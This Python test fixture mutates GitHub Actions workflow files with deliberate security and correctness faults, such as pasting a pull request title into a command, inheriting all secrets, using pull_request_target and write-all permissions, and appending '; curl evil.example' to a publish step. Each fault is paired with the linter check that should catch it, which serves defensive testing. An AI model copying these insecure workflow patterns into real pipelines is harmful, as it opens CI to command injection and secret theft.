"""Faults as people and attackers make them, each with the check that is to find it."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path


@dataclass(frozen=True, kw_only=True)
class Fault:
    """Replace the first `old` in `file` by `new`; `caught_by` is `tool:kind of finding`."""

    name: str
    file: str
    old: str
    new: str
    caught_by: str

    def inject(self, root: Path) -> None:
        path = root / ".github" / self.file
        text = path.read_text(encoding="utf-8")
        assert self.old in text, f"the fault `{self.name}` finds nothing to change"
        path.write_text(text.replace(self.old, self.new, 1), encoding="utf-8")


PULL, PUBLISH, COMMENT = (f"workflows/channel-{name}.yml" for name in ("pull-request", "publish", "comment"))
SETUP, CALLER, INDEX = "actions/setup/action.yml", "workflows/pull-request.yml", "workflows/channel-index.yml"
PLAN_STEP = "        run: channel ci plan\n"
JOB_ENV = "        env:\n          JOB: ${{ matrix.id }}\n"


def fault(name: str, file: str, old: str, new: str, caught_by: str) -> Fault:
    return Fault(name=name, file=file, old=old, new=new, caught_by=caught_by)


FAULTS = (
    fault(
        "a title pasted into a command",
        PULL,
        PLAN_STEP,
        '        run: channel ci plan "${{ github.event.pull_request.title }}"\n',
        "zizmor:template-injection",
    ),
    fault(
        "the same, for the house",
        PULL,
        PLAN_STEP,
        '        run: channel ci plan "${{ github.event.pull_request.title }}"\n',
        "house:expression-in-run",
    ),
    fault(
        "the same, for actionlint",
        PULL,
        PLAN_STEP,
        '        run: channel ci plan "${{ github.event.pull_request.title }}"\n',
        "actionlint:expression",
    ),
    fault(
        "a matrix value pasted into a command",
        PULL,
        '--job "$JOB"',
        '--job "${{ matrix.id }}"',
        "zizmor:template-injection",
    ),
    fault(
        "an input pasted into the action's command",
        SETUP,
        'run: python "$GITHUB_ACTION_PATH/install.py"',
        "run: python install.py ${{ inputs.environment }}",
        "house:expression-in-run",
    ),
    fault("an action by tag", PULL, "@3d3c42e5aac5ba805825da76410c181273ba90b1", "@v7", "zizmor:unpinned-uses"),
    fault(
        "an action by another commit", PULL, "@3d3c42e5aac5ba805825da76410c181273ba90b1", "@" + "a" * 40, "house:pins"
    ),
    fault("a pin whose comment lies", PUBLISH, "# v7.0.1", "# v7.9.9", "house:pins"),
    fault(
        "an action nobody has looked at",
        PULL,
        "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
        f"uses: evil/checkout@{'b' * 40} # v1",
        "house:pins",
    ),
    fault("a local action that is not there", PULL, "$/.github/actions/setup", "$/.github/actions/gone", "house:pins"),
    fault(
        "a secret while recipes are built",
        PULL,
        f'        run: channel build --job "$JOB"\n{JOB_ENV}',
        f'        run: channel build --job "$JOB"\n{JOB_ENV}          TOKEN: ${{{{ secrets.CHANNEL_TOKEN }}}}\n',
        "house:secrets",
    ),
    fault("another secret in the build job", PULL, "secrets.CHANNEL_TOKEN", "secrets.AWS_KEY", "house:secrets"),
    fault(
        "a secret for a whole job",
        PULL,
        "    timeout-minutes: 350\n",
        "    timeout-minutes: 350\n    env:\n      TOKEN: ${{ secrets.CHANNEL_TOKEN }}\n",
        "house:secrets",
    ),
    fault(
        "every secret handed on",
        CALLER,
        "secrets:\n      CHANNEL_TOKEN",
        "secrets: inherit #\n    x-was:\n      CHANNEL_TOKEN",
        "zizmor:secrets-inherit",
    ),
    fault(
        "all secrets as JSON",
        PULL,
        "${{ secrets.CHANNEL_TOKEN }}",
        "${{ toJSON(secrets) }}",
        "zizmor:overprovisioned-secrets",
    ),
    fault("pull_request_target", CALLER, "  pull_request:\n", "  pull_request_target:\n", "zizmor:dangerous-triggers"),
    fault("the same, for the house", CALLER, "  pull_request:\n", "  pull_request_target:\n", "house:triggers"),
    fault(
        "workflow_run elsewhere",
        "workflows/publish.yml",
        "  push:\n    branches: [main]\n",
        "  workflow_run:\n    workflows: [Check]\n    types: [completed]\n",
        "house:triggers",
    ),
    fault("no time limit", PUBLISH, "    timeout-minutes: 60\n", "", "house:timeout"),
    fault("an unknown need", PUBLISH, "needs: [plan, build]", "needs: [plan, bild]", "actionlint:job-needs"),
    fault("a need left out", PUBLISH, "needs: [plan, build]", "needs: [build]", "house:needs"),
    fault("a circle of needs", PULL, "    name: Plan\n", "    name: Plan\n    needs: build\n", "actionlint:job-needs"),
    fault(
        "an output that nobody sets",
        PULL,
        "needs.plan.outputs.matrix",
        "needs.plan.outputs.matrx",
        "actionlint:expression",
    ),
    fault("rights on top", PULL, "permissions: {}", "permissions: write-all", "house:permissions"),
    fault("the same, for zizmor", PULL, "permissions: {}", "permissions: write-all", "zizmor:excessive-permissions"),
    fault(
        "a right without a reason", COMMENT, "checks: write # the check beside it", "checks: write", "house:permissions"
    ),
    fault("a right that there is not", COMMENT, "checks: write #", "chekcs: write #", "actionlint:permissions"),
    fault("an identity without an environment", PUBLISH, "    environment: channel\n", "", "house:id-token"),
    fault("one artifact's name for every cell", PULL, "built-${{ matrix.id }}.", "built.", "house:artifact-names"),
    fault(
        "no attempt in an artifact's name",
        PUBLISH,
        "built-${{ matrix.id }}.${{ github.run_attempt }}",
        "built-${{ matrix.id }}",
        "house:artifact-names",
    ),
    fault(
        "a credential left behind", PULL, "persist-credentials: false", "persist-credentials: true", "house:credentials"
    ),
    fault(
        "two commands in a step",
        PUBLISH,
        "run: channel publish --plan plan.json dist",
        "run: channel publish --plan plan.json dist; curl evil.example",
        "house:one-line",
    ),
    fault(
        "a script in a step",
        PUBLISH,
        "run: channel publish --plan plan.json dist",
        "run: |\n          channel publish --plan plan.json dist\n          rm -rf dist",
        "house:one-line",
    ),
    fault("a machine that changes", PUBLISH, "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", "house:runners"),
    fault(
        "a machine that there is not",
        PUBLISH,
        "runs-on: ubuntu-24.04",
        "runs-on: ubunto-24.04",
        "actionlint:runner-label",
    ),
    fault("an empty matrix", PULL, "!cancelled() && needs.plan.outputs.any == 'true'", "!cancelled()", "house:matrix"),
    fault("a failed cell that ends the others", PULL, "fail-fast: false", "fail-fast: true", "house:matrix"),
    fault(
        "a publish that can be cancelled",
        "workflows/publish.yml",
        "cancel-in-progress: false",
        "cancel-in-progress: true",
        "house:concurrency",
    ),
    fault(
        "two runs at once",
        "workflows/publish.yml",
        "concurrency:\n  group: channel-publish\n  cancel-in-progress: false\n  queue: max # none that waits is lost\n",
        "",
        "house:concurrency",
    ),
    fault(
        "a cache where one signs",
        SETUP,
        "        python-version: '3.12'\n",
        "        python-version: '3.12'\n        cache: pip\n",
        "house:cache",
    ),
    fault("an unknown key", PULL, "    timeout-minutes: 20\n", "    timeout-minute: 20\n", "schema:workflows"),
    fault("a step without a shell in the action", SETUP, "      shell: bash\n", "", "schema:actions"),
    fault("a bad cron line", "workflows/index.yml", "17 3 * * *", "61 3 * * *", "actionlint:events"),
    fault(
        "an expression that does not parse",
        PULL,
        "fromJSON(needs.plan.outputs.matrix)",
        "fromJSON(needs.plan.outputs.matrix",
        "actionlint:expression",
    ),
    fault(
        "an App for every repository",
        "workflows/channel-access.yml",
        "          repositories: ${{ vars.APP_REPOSITORIES }}\n",
        "",
        "zizmor:github-app",
    ),
    fault(
        "an input that the callee has not",
        "workflows/index.yml",
        "rebuild: ${{ inputs.rebuild",
        "rebuidl: ${{ inputs.rebuild",
        "actionlint:workflow-call",
    ),
    fault(
        "a dispatch that always holds",
        INDEX,
        "if: ${{ inputs.rebuild }}",
        "if: ${{ inputs.rebuild }} == false",
        "actionlint:if-cond",
    ),
)
